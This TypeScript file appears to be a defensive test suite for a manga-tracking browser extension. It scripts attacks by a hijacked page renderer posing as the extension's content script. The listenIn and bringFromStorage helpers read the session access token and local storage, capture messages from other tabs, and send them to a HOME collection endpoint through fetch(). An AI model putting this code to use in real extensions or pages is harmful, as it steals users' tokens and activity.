/**
 * What a page could do that has taken its own renderer over, and speaks as our script in it. It may then do what that script may:
 * mark the chapter that it shows. All else is still judged by where it comes from.
 */
import { randomUUID } from 'node:crypto';
import type { Browser } from 'webextension-polyfill';
import { SECOND } from '../../../../lib/clock.ts';
import { expect } from '../../support/expect.ts';
import type { Attack, Scene } from '../attack.ts';
import { HOME } from '../bringing-home.ts';
import { markInNewTab } from '../person.ts';
import type { Tab } from '../tab.ts';

/** As our script has it in a page. */
declare const chrome: Browser;

const unjudged = { against: 'judged-senders', wants: 'deed' } as const;

const overheard = {
  against: 'told-by-document',
  inFirefox: { harmlessBecause: 'a tab whose origin is not looked at tells it nothing there either' },
  wants: 'secret',
} as const;

export const within: readonly Attack[] = [
  {
    ...unjudged,
    name: 'that has become our script follows a series',
    play: said(({ other }) => ({
      name: 'series.follow',
      input: { operationId: randomUUID(), mangaId: other.mangaId, follow: false },
    })),
  },
  {
    ...unjudged,
    name: 'that has become our script marks hundreds of chapters at once',
    play: said(({ other, chapter }) => ({
      name: 'chapters.mark',
      input: { operationId: randomUUID(), chapterIds: [other.id, chapter.id], read: true },
    })),
  },
  {
    ...unjudged,
    name: 'that has become our script sends a report',
    play: said(({ other, arena }) => ({
      name: 'report.send',
      input: {
        operationId: randomUUID(),
        category: 'chapter',
        objectId: other.id,
        reasonId: arena.service.fakeService.world.library.reportReasons.find(({ category }) => category === 'chapter')
          ?.id,
        details: 'Page 1 is missing',
      },
    })),
  },
  {
    name: 'that has become our script calls what every object inherits',
    against: 'own-names',
    wants: 'answer',
    play: async ({ page }) => {
      const answers = ['toString', 'constructor', '__proto__', 'valueOf', 'hasOwnProperty'].map((name) =>
        page.inOurScript(send, { name, input: {} }),
      );
      const settled = await Promise.allSettled(answers);
      await page.evaluate((found) => window.bringHome(found), settled);
    },
  },
  {
    name: 'that has become our script reads the access token where it is kept',
    against: 'closed-storage',
    inFirefox: { harmlessBecause: 'Firefox gives scripts in pages no storage of the session' },
    wants: 'secret',
    play: ({ page }) => bringFromStorage(page, 'session'),
  },
  {
    name: 'that has become our script reads what waits to be sent',
    against: 'closed-storage',
    inFirefox: { gainsBecause: 'Firefox lets every script of ours read the local storage' },
    wants: 'secret',
    play: ({ page }) => bringFromStorage(page, 'local'),
  },
  {
    name: 'that has become our script hears which chapters are marked in other tabs',
    against: 'told-apart',
    wants: 'secret',
    play: async ({ arena, page, other, meant }) => {
      await listenIn(page);
      meant.add(other.id);
      await markInNewTab(arena, other);
    },
  },
  {
    name: 'that has become our script on another site hears what becomes of a chapter that its tab showed before',
    ...overheard,
    play: async ({ arena, page, other, meant }) => {
      await arena.turnOn('blog.example');
      const question = { name: 'chapter.states', input: { chapterIds: [other.id] } };
      await page.inOurScript(send, question);
      // A page without links: it asks about no chapters of its own.
      await page.goto('https://blog.example/nothing-here');
      await expect(() => listenIn(page)).toPass();
      meant.add(other.id);
      await markInNewTab(arena, other);
      await arena.turnOff('blog.example');
    },
  },
  {
    name: 'that has become our script on another site hears what becomes of a click in the page before it',
    ...overheard,
    play: async ({ arena, page, other, meant }) => {
      const { account, actions, service } = arena;
      await arena.turnOn('blog.example');
      service.faults.order({ route: '/manga/{id}/read', method: 'POST' }, { kind: 'delay', ms: 4 * SECOND });
      meant.add(other.id);
      actions.push({ chapterId: other.id, at: Date.now() });
      await page.markByMenu(other.id);
      const isToastThere = () => page.evaluate(() => document.querySelector('[data-dexmark=toast]') !== null);
      await expect.poll(isToastThere).toBe(true);
      await page.goto('https://blog.example/nothing-here');
      await expect(() => listenIn(page)).toPass();
      await expect.poll(() => account.read.has(other.id)).toBe(true);
      await arena.turnOff('blog.example');
    },
  },
];

/** Our script in the page sends a message to the background. */
function said(messageOf: (scene: Scene) => unknown) {
  return async (scene: Scene) => {
    await scene.page.inOurScript(send, messageOf(scene));
  };
}

/** Runs where our script does. */
function send(message: unknown): Promise<unknown> {
  return chrome.runtime.sendMessage(message);
}

/** Brings home whatever our script in the page hears from now on. */
async function listenIn(page: Tab): Promise<void> {
  await page.inOurScript(
    (home) =>
      chrome.runtime.onMessage.addListener(
        (told: unknown) => void fetch(`${home}${encodeURIComponent(JSON.stringify(told))}`),
      ),
    HOME,
  );
}

async function bringFromStorage(page: Tab, area: 'local' | 'session'): Promise<void> {
  const kept = await page.inOurScript((area) => chrome.storage[area]?.get().then(JSON.stringify, String), area);
  await page.evaluate((found) => window.bringHome(found), kept);
}
